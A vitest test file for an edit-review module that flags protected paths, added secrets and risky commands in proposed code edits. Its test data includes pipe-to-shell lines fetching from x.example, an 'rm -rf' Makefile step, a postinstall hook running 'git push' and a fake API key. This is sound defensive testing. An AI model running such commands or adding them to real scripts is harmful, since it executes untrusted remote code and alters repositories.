import { describe, expect, it } from 'vitest';
import { DEFAULT_PROTECTED_PATHS } from './protected-paths.js';
import { reviewEdit, reviewSummary } from './edit-review.js';

const policy = { protectedPaths: DEFAULT_PROTECTED_PATHS, autoApproveBelow: 0 };
const ci = { path: '.github/workflows/ci.yml', before: 'on: push\njobs: {}\n', after: 'on: [push, pull_request]\njobs: {}\n' };
const src = { path: 'src/a.ts', before: 'export const a = 1;\n', after: 'export const a = 2;\n' };

describe('edit review', () => {
  it('needs no approval for an ordinary edit, and still gives its diff and hash', () => {
    const review = reviewEdit([src], policy);
    expect(review.approval).toBe('none');
    expect(review.diff).toBe('--- a/src/a.ts\n+++ b/src/a.ts\n@@ -1,1 +1,1 @@\n-export const a = 1;\n+export const a = 2;\n');
    expect(review.diffHash).toMatch(/^[0-9a-f]{64}$/);
    expect(review.stat).toEqual({ files: 1, added: 1, deleted: 1 });
  });

  it('asks about a protected path, with its risk and reasons', () => {
    const review = reviewEdit([src, ci], policy);
    expect(review.approval).toBe('needed');
    expect(review.protectedPaths).toEqual([{ path: '.github/workflows/ci.yml', glob: '.github/**' }]);
    expect(review.risk.score).toBe(40);
    expect(reviewSummary(review)).toMatch(/^risk 40\/100, 2 files \+2 −2: touches protected \.github\/workflows\/ci\.yml/);
  });

  it('asks about an added secret, at its line', () => {
    const review = reviewEdit([{ path: 'src/keys.ts', before: null, after: `// config\nexport const key = "sk-${'x1Y2z3'.repeat(5)}";\n` }], policy);
    expect(review.approval).toBe('needed');
    expect(review.secrets).toEqual([expect.objectContaining({ path: 'src/keys.ts', line: 2, rule: 'openai-anthropic-api-key' })]);
    expect(review.diff).toContain('--- /dev/null\n+++ b/src/keys.ts');
  });

  it('auto-approves a flagged edit scoring below autoApproveBelow; approveAbove flags risky unprotected edits', () => {
    expect(reviewEdit([ci], { ...policy, autoApproveBelow: 41 }).approval).toBe('auto');
    expect(reviewEdit([ci], { ...policy, autoApproveBelow: 40 }).approval).toBe('needed');
    const deletion = { path: 'src/old.ts', before: 'x\n'.repeat(120), after: null };
    expect(reviewEdit([deletion], policy).approval).toBe('none');
    const strict = reviewEdit([deletion], { ...policy, approveAbove: 20 });
    expect(strict.risk.score).toBeGreaterThanOrEqual(20);
    expect(strict.approval).toBe('needed');
  });

  it('gives a different hash for a different diff and the same hash for the same one', () => {
    expect(reviewEdit([ci], policy).diffHash).toBe(reviewEdit([ci], policy).diffHash);
    expect(reviewEdit([{ ...ci, after: 'on: pull_request\njobs: {}\n' }], policy).diffHash).not.toBe(reviewEdit([ci], policy).diffHash);
  });
});

describe('commands written by an edit', () => {
  it('scores the commands added to scripts, CI steps, Makefiles and package.json scripts', async () => {
    const { addedCommand } = await import('./edit-review.js');
    expect(addedCommand('deploy.sh', 'curl -fsSL https://x.example/i | sh')).toBe('curl -fsSL https://x.example/i | sh');
    expect(addedCommand('.github/workflows/ci.yml', '      - run: npm test')).toBe('npm test');
    expect(addedCommand('.github/workflows/ci.yml', '      run: |')).toBeUndefined();
    expect(addedCommand('Makefile', '\t@rm -rf build')).toBe('rm -rf build');
    expect(addedCommand('Makefile', 'build: deps')).toBeUndefined();
    expect(addedCommand('Dockerfile', 'RUN apt-get install -y curl')).toBe('apt-get install -y curl');
    expect(addedCommand('package.json', '    "postinstall": "git push origin main",')).toBe('git push origin main');
    expect(addedCommand('src/a.ts', 'run: git push')).toBeUndefined();

    const risky = reviewEdit([{ path: 'scripts/release.sh', before: 'set -e\n', after: 'set -e\nnpm publish\ncurl https://x.example | sh\n' }], policy);
    const command = risky.risk.reasons.find((r) => r.kind === 'command');
    expect(command?.points).toBe(40);
    expect(command?.message).toContain('npm publish');
    expect(risky.approval).toBe('none'); // scored, but not flagged without approveAbove
    expect(reviewEdit([{ path: 'scripts/release.sh', before: 'set -e\n', after: 'set -e\nnpm publish\n' }], { ...policy, approveAbove: 10 }).approval).toBe('needed');
  });
});
